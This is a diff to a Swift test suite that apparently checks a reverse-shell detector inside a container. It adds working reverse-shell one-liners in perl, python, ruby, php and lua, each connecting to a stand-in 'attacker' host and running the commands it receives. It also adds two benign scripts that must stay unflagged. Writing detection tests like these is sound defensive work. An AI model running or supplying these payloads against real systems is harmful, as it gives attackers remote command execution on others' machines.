@@ -21,7 +21,8 @@ final class ReverseShellLiveTests: XCTestCase {
                           ("/usr/bin/bash", "bash"), ("/usr/bin/perl", "perl-base"),
                           ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd"),
                           ("/usr/bin/gawk", "gawk"), ("/usr/bin/node", "nodejs"), ("/usr/bin/openssl", "openssl"),
-                          ("/usr/bin/script", "bsdutils")])
+                          ("/usr/bin/script", "bsdutils"), ("/usr/bin/ruby", "ruby"), ("/usr/bin/php8.2", "php-cli"),
+                          ("/usr/bin/lua5.4", "lua5.4")])
         if Self.scene == nil { Self.scene = try ReverseShellLiveScene() }
     }
 
@@ -177,6 +178,58 @@ final class ReverseShellLiveTests: XCTestCase {
     func testGawkInetCommandLoop() throws {
         try assertReverseShell(shellNamed: "gawk") { port in
             ["/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/\(Self.attacker)/\(port)\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)};close(s)}"]
+        }
+    }
+
+    /// perl's `open(my $p, "-|", $cmd)`: a plain word is exec'd without a shell (popen with no
+    /// `sh -c`); its output comes back on a pipe only perl holds. Named after perl.
+    func testPerlPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "perl") { port in
+            ["/usr/bin/perl", "-MIO::Socket::INET", "-e", """
+            $c=IO::Socket::INET->new(PeerAddr=>"\(Self.attacker):\(port)") or exit 1;\
+            while(<$c>){chomp;open(my $p,"-|",$_) or next;print {$c} <$p>;close $p}
+            """]
+        }
+    }
+
+    /// python's `os.popen(cmd)` (through `sh -c`), the command text straight from the socket.
+    func testPythonOsPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "python3") { port in
+            ["/usr/bin/python3", "-c", """
+            import socket,os
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5)
+            while True:
+                d=s.recv(1024)
+                if not d: break
+                s.sendall(os.popen(d.decode()).read().encode())
+            """]
+        }
+    }
+
+    /// ruby's `IO.popen("id")` execs the command directly (no shell).
+    func testRubyIOPopenCommandLoop() throws {
+        try assertReverseShell(shellNamed: "ruby") { port in
+            ["/usr/bin/ruby", "-rsocket", "-e",
+             "s=TCPSocket.new(\"\(Self.attacker)\",\(port));while(l=s.gets);s.write(IO.popen(l.chomp).read);end"]
+        }
+    }
+
+    /// php's `shell_exec` (`sh -c`), on a socket from `fsockopen`. By its versioned path: /usr/bin/php
+    /// goes through /etc/alternatives, which the container does not have.
+    func testPhpShellExecCommandLoop() throws {
+        try assertReverseShell(shellNamed: "php8.2") { port in
+            ["/usr/bin/php8.2", "-r", "$s=fsockopen(\"\(Self.attacker)\",\(port));while(($c=fgets($s))!==false){fwrite($s,(string)shell_exec($c));}"]
+        }
+    }
+
+    /// lua with luasocket, `io.popen(cmd):read("a")` (`sh -c`).
+    func testLuaPopenCommandLoop() throws {
+        guard FileManager.default.fileExists(atPath: "/usr/share/lua/5.4/socket.lua") else {
+            throw HarnessError("luasocket for lua 5.4 is missing: apt-get install lua-socket")
+        }
+        try assertReverseShell(shellNamed: "lua5.4") { port in
+            ["/usr/bin/lua5.4", "-e", "local s=require(\"socket\").tcp();assert(s:connect(\"\(Self.attacker)\",\(port)));"
+             + "while true do local c=s:receive(\"*l\");if not c then break end;local p=io.popen(c);s:send(p:read(\"a\"));p:close() end"]
         }
     }
 
@@ -475,6 +528,45 @@ final class ReverseShellLiveTests: XCTestCase {
                                                     timeout: .seconds(15))
             XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind ncat's unix socket ran id: \(run)")
         }
+    }
+
+    /// A service script that calls an API (the listener) and then runs one `sh -c` with its output
+    /// captured: the command is its own, not read from the connection. Quiet.
+    func testBenignServiceScriptRunningOneCapturedCommandDoesNotAlert() throws {
+        try assertNoReverseShell(listening: true) { port, mark in
+            let script = """
+            import socket,subprocess
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5);s.sendall(b"GET /config HTTP/1.0\\r\\n\\r\\n");s.recv(100);s.close()
+            print(subprocess.run("uname -s; echo \(mark)",shell=True,capture_output=True,text=True).stdout.strip())
+            """
+            let run = try self.runScript(script, named: "\(mark)-service.py")
+            XCTAssertTrue(run.stdout.contains("Linux"), "the service ran its command: \(run)")
+        }
+    }
+
+    /// A CI-runner-like script: fetches a job from a server (the listener), then runs its fixed
+    /// steps one after another with the output captured and reported. Quiet.
+    func testBenignCIRunnerScriptDoesNotAlert() throws {
+        try assertNoReverseShell(listening: true) { port, mark in
+            let script = """
+            import socket,subprocess
+            s=socket.create_connection(("\(Self.attacker)",\(port)),5);job=s.recv(100);s.close()
+            out=[]
+            for step in ["echo checkout \(mark)","uname -m","ls / | wc -l"]:
+                out.append(subprocess.run(["/bin/sh","-c",step],capture_output=True,text=True).stdout.strip())
+            print(" | ".join(out))
+            """
+            let run = try self.runScript(script, named: "\(mark)-runner.py")
+            XCTAssertTrue(run.stdout.contains("checkout"), "the runner ran its steps: \(run)")
+        }
+    }
+
+    /// Writes a python script into the container's /tmp (its own tmpfs) and runs it.
+    private func runScript(_ text: String, named name: String) throws -> CommandResult {
+        let scene = try self.scene
+        let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(name)"], timeout: .seconds(10), stdin: text)
+        XCTAssertEqual(write.status, 0, "writing \(name): \(write)")
+        return try scene.container.exec(["/usr/bin/python3", "/tmp/\(name)"], timeout: .seconds(15))
     }
 
     // MARK: - Helpers
